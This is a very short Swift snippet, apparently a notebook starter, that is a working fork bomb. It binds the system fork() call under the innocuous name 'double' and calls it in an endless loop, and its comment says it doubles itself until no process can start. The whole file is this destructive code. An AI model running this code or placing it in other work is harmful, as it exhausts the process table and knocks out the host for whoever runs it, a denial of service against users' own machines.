// notebook starter: refused
// Doubles itself until no process can start.
@_silgen_name("fork") func double() -> Int32

func act() { while true { _ = double() } }
